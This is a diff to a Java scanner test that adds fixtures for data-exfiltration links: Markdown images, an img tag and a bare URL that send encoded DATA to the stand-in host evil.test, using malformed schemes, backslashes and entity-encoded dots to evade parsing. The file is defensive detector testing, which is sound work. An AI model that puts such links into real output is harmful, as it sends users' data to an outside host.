@@ -49,6 +49,12 @@ class LinkScanTest {
                 "<meta http-equiv=refresh content=\"0;url=https://evil.test/?d=DATA\">",
                 "[write](mailto:mallory@evil.test?body=DATA)",
                 "![x](https://evil.test/?a=1&b=DATA)",
+                "![x](http:/evil.test/?d=DATA)",
+                "![x](http:evil.test/?d=DATA)",
+                "![x](///evil.test/?d=DATA)",
+                "![x](\\\\evil.test/?d=DATA)",
+                "<img src='https://evil.test\\.docs.example.com/?d=DATA'>",
+                "see https://evil.test&#46;docs.example.com/?d=DATA",
             })
     void addressWhenItCarriesEncodedDataThenFound(String template) {
         for (String data : List.of(BASE64, HEX)) {
